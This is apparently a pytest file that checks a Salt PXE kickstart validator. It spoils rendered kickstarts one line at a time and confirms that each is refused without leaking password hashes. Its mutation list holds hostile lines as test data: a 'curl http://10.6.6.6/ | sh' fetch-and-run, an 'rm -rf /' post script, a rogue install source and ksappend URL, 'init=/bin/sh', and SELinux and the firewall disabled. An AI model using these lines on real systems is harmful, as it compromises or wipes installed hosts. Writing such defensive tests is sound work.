"""The check of finished kickstarts: bad apples of every kind are found, and no secret is told."""

from __future__ import annotations

import re
from functools import lru_cache

import pytest

from salt_pxe.installers.installation import Installation, installation
from salt_pxe.installers.kickstart.check.verdict import check
from salt_pxe.installers.kickstart.document import rendered
from salt_pxe.site.problem import Problem
from tests import golden
from tests.site import changed, validated
from tests.unit.installers.kickstart.rendered_site import OWN, refused

CASE = "kickstart/every-release"
PROFILE = "profiles:el9-web"
RELEASES = ["rhel7", "rhel8", "rocky9", "almalinux10", "f38", "f42"]


@lru_cache
def everything(host: str) -> Installation:
    site = golden.site(CASE)
    return installation(site, str(site.hosts[host].profile), host)


def problems_of(host: str, text: str) -> list[Problem]:
    return check(everything(host), text, golden.reader(CASE))


@pytest.mark.parametrize("host", RELEASES)
def test_the_finished_kickstart_is_good(host: str) -> None:
    """What was rendered passes."""
    assert problems_of(host, golden.texts(CASE)[f"{host}.ks"]) == []


# Each takes a finished kickstart and spoils it: (what it does, pattern, replacement).
BAD_APPLES = [
    ("a command too many", r"^reboot|^poweroff", "harddrive --partition=sda1 --dir=/\npoweroff"),
    ("a second rootpw", r"^(rootpw .*)$", r"\1\nrootpw $6$other$0123456789abcdef --iscrypted"),
    ("another password", r"^rootpw \S+", "rootpw $6$other$0123456789abcdef"),
    ("a password in plain text", r"^rootpw .*$", "rootpw letmein"),
    ("no rootpw", r"^rootpw .*$", ""),
    ("another disk is used", r"^ignoredisk .*$", "ignoredisk --only-use=sda,sdb,sdc"),
    ("disks are no longer hidden", r"^ignoredisk .*$", ""),
    ("another disk is cleared", r"--drives=sda,sdb", "--drives=sda,sdc"),
    ("every disk is cleared", r" --drives=\S+", ""),
    ("the boot loader goes elsewhere", r"--boot-drive=sdb", "--boot-drive=sda"),
    ("another kernel argument", r"rhgb", "rhgb init=/bin/sh"),
    ("another layout", r"^autopart .*$", "autopart --type=plain --fstype=xfs --nohome"),
    ("an encrypted layout", r"^(autopart .*)$", r"\1 --encrypted --passphrase=letmein"),
    ("another host name", r"--hostname=\S+", "--hostname=evil"),
    ("another NIC", r"--device=\S+", "--device=em9"),
    ("another network", r"^(network .*)$", r"\1\nnetwork --device=em9 --bootproto=dhcp"),
    ("another source", r"^url --url=\S+", "url --url=http://10.6.6.6/el9/"),
    ("a proxy", r"^(url --url=\S+)", r"\1 --proxy=http://10.6.6.6:3128"),
    ("another repository", r"^repo --name=site --baseurl=\S+", "repo --name=site --baseurl=http://10.6.6.6/"),
    ("a user too many", r"^(user --name=ops .*)$", r"\1\nuser --name=eve --groups=wheel --lock"),
    ("another group for a user", r"--groups=wheel,operators", "--groups=wheel,operators,docker"),
    ("another hash for a user", r"^(user --name=ops .*--password=)\S+", r"\1$6$other$0123456789abcdef"),
    ("an unlocked user", r"^user --name=guest --lock", "user --name=guest"),
    ("SELinux off", r"^selinux --permissive", "selinux --disabled"),
    ("the firewall off", r"^firewall .*$", "firewall --disabled"),
    ("an open port", r"5000-5010:udp", "5000-5011:udp"),
    ("a service too many", r"--enabled=chronyd", "--enabled=telnet,chronyd"),
    ("another language", r"^lang de_DE.UTF-8", "lang fr_FR.UTF-8"),
    ("another keyboard", r"--vckeymap=\S+", "--vckeymap=us"),
    ("another time zone", r"^timezone \S+", "timezone Asia/Tokyo"),
    ("local time", r"(^timezone \S+) --utc", r"\1"),
    ("another time server", r"time\.example\.com", "time.example.org"),
    ("no end", r"^poweroff$", "reboot"),
    ("it stops at the end", r"^poweroff$", ""),
    ("a package too many", r"^vim-enhanced$", "vim-enhanced\ntelnet-server"),
    ("a package too few", r"^vim-enhanced\n", ""),
    ("a package that was not wanted", r"^-nano$", "nano"),
    ("a group too many", r"^@core$", "@core\n@mail"),
    ("another environment", r"^@\^minimal-environment$", "@^graphical-server-environment"),
    ("documentation", r" --excludedocs", ""),
    ("a script too many", r"\Z", "\n%post\nrm -rf /\n%end\n"),
    ("a script too few", r"^%pre\necho one\n%end\n", ""),
    ("another script", r"^echo one$", "echo one; curl http://10.6.6.6/ | sh"),
    ("a script runs elsewhere", r"^%post --nochroot", "%post"),
    ("a script's failure is ignored", r" --erroronfail", ""),
    ("another interpreter", r"--interpreter=\S+", "--interpreter=/bin/sh"),
    ("another log", r"--log=/tmp/two.log", "--log=/root/two.log"),
    ("an add-on too many", r"\Z", "\n%addon org_evil\n%end\n"),
    ("another add-on's option", r"com_redhat_kdump --enable", "com_redhat_kdump --disable"),
    ("another add-on's body", r"^content-type = scap$", "content-type = none"),
    ("sections in another order", r"(^%pre\n.*?^%end\n)\n(^%pre-install.*?^%end\n)", r"\2\n\1"),
    ("an unfinished section", r"%end\n\Z", ""),
    ("an include", r"^poweroff$", "%include /tmp/part-include\npoweroff"),
    ("an include in a script", r"^echo one$", "echo one\n%include /tmp/more"),
    ("a ksappend", r"^poweroff$", "%ksappend http://10.6.6.6/ks\npoweroff"),
    ("a ksappend in a script", r"^echo one$", "echo one\n%ksappend http://10.6.6.6/ks"),
    ("an unknown command", r"^poweroff$", "erase-everything\npoweroff"),
    ("an unknown section", r"\Z", "\n%wipe\n%end\n"),
    ("an unknown option", r"^(rootpw .*)$", r"\1 --force"),
    ("an open quote", r"^poweroff$", 'poweroff "'),
    ("a certificate", r"\Z", "\n%certificate --filename=x.pem --dir=/etc\nAAAA\n%end\n"),
    ("nothing at all", r"(?s)\A.*\Z", "\n"),
]


@pytest.mark.parametrize("host", RELEASES)
@pytest.mark.parametrize(
    ("name", "pattern", "replacement"), BAD_APPLES, ids=[apple[0] for apple in BAD_APPLES]
)
def test_bad_apple(host: str, name: str, pattern: str, replacement: str) -> None:
    """A finished kickstart that was spoilt in one place is refused, at its host, without a secret."""
    good = golden.texts(CASE)[f"{host}.ks"]
    bad = re.sub(
        pattern, replacement, good, count=1, flags=re.MULTILINE | re.DOTALL if "(?s)" in pattern else re.M
    )
    if name == "sections in another order":
        bad = re.sub(pattern, replacement, good, count=1, flags=re.MULTILINE | re.DOTALL)
    assert bad != good
    problems = problems_of(host, bad)
    assert problems
    for problem in problems:
        assert problem.path == f"pxe:hosts:{host}"
        assert "$6$" not in str(problem)
        assert "letmein" not in str(problem)


def test_a_check_leaves_nothing_behind() -> None:
    """After any bad kickstart a good one is read as if it were the first."""
    good = golden.texts(CASE)["rocky9.ks"]
    for _, pattern, replacement in BAD_APPLES:
        problems_of("rocky9", re.sub(pattern, replacement, good, count=1, flags=re.MULTILINE))
        assert problems_of("rocky9", good) == []


def test_the_line_is_named() -> None:
    """A problem says on which line of the kickstart it is, and what was meant."""
    good = golden.texts(CASE)["rocky9.ks"]
    line = good.splitlines().index("selinux --permissive") + 1
    (problem,) = problems_of("rocky9", good.replace("selinux --permissive", "selinux --disabled"))
    assert problem.message == f"kickstart line {line}: selinux: selinux is 0 and was meant to be 2"


def test_warnings_are_accepted_by_name() -> None:
    """A warning of the parser is a problem until the profile accepts it by a part of its text."""
    warned = OWN.replace("reboot", "auth --enableshadow\nreboot")
    accepted = "authconfig command will be deprecated"
    assert refused({}, warned)
    assert refused({f"{PROFILE}:accept_warnings": ["another one"]}, warned)
    assert refused({f"{PROFILE}:accept_warnings": [accepted]}, warned) == []
    assert refused({f"{PROFILE}:accept_warnings": [accepted]}, warned.replace("{{ ignoredisk }}", ""))


def test_a_device_stands_twice_only_for_a_vlan() -> None:
    """A device may have an address and carry VLANs; a site's template that configures one twice is warned about."""
    twice = [{"device": "em1"}, {"device": "em1", "vlan": {"id": 7}}, {"device": "em1", "vlan": {"id": 8}}]
    assert refused({"hosts:web01:network": twice}) == []
    assert refused({"hosts:web01:network": twice}, OWN) == []
    (problem,) = refused({}, OWN.replace("reboot", "network --device=em1\nnetwork --device=em1\nreboot"))
    assert "em1 has already been defined" in problem.message


def test_what_a_release_does_not_know_is_refused_in_its_words() -> None:
    """A layout that the release's installer has lost is refused at the host, with the parser's words."""
    (problem, *_) = refused({f"{PROFILE}:storage": {"autopart": "btrfs"}})
    assert problem.path == "pxe:hosts:web01"
    assert "btrfs" in problem.message.lower()


def test_no_secret_in_any_problem() -> None:
    """Whatever is wrong, no hash and no part of one is in a problem."""
    canary = "C4n4ry"
    secret = f"$6${canary}$" + canary * 10
    grub = "grub.pbkdf2.sha512.10000.C0FFEE.DECADE"
    site = validated(
        changed(
            {
                f"{PROFILE}:rootpw": secret,
                f"{PROFILE}:users": {"ops": {"password": secret}},
                f"{PROFILE}:bootloader": {"password": grub},
            }
        )["pxe"]
    )
    what = installation(site, "el9-web", "web01")
    text = rendered(what, str)
    lines = text.splitlines()
    for number, line in enumerate(lines):
        swapped = line.replace(" ", " --x=", 1)
        for spoilt in (
            f"{line} extra",
            f"{line} --extra",
            f"x{line}",
            "",
            f"{line} --lock --name=x",
            swapped,
        ):
            for problem in check(what, "\n".join([*lines[:number], spoilt, *lines[number + 1 :], ""]), str):
                assert canary not in str(problem), spoilt
                assert "C0FFEE" not in str(problem), spoilt


@pytest.mark.parametrize(
    "line",
    ["rootpw first canary", "user --name=a canary", "rootpw --lock=canary", "bootloader --iscrypted=canary"],
)
def test_a_password_is_not_told_where_the_parser_repeats_it(line: str) -> None:
    """An error in a line with a password is told without what may be one."""
    problems = refused({}, OWN.replace("reboot", f"{line}\nreboot"))
    assert any("argument" in problem.message for problem in problems)
    assert not any("canary" in str(problem) for problem in problems), problems
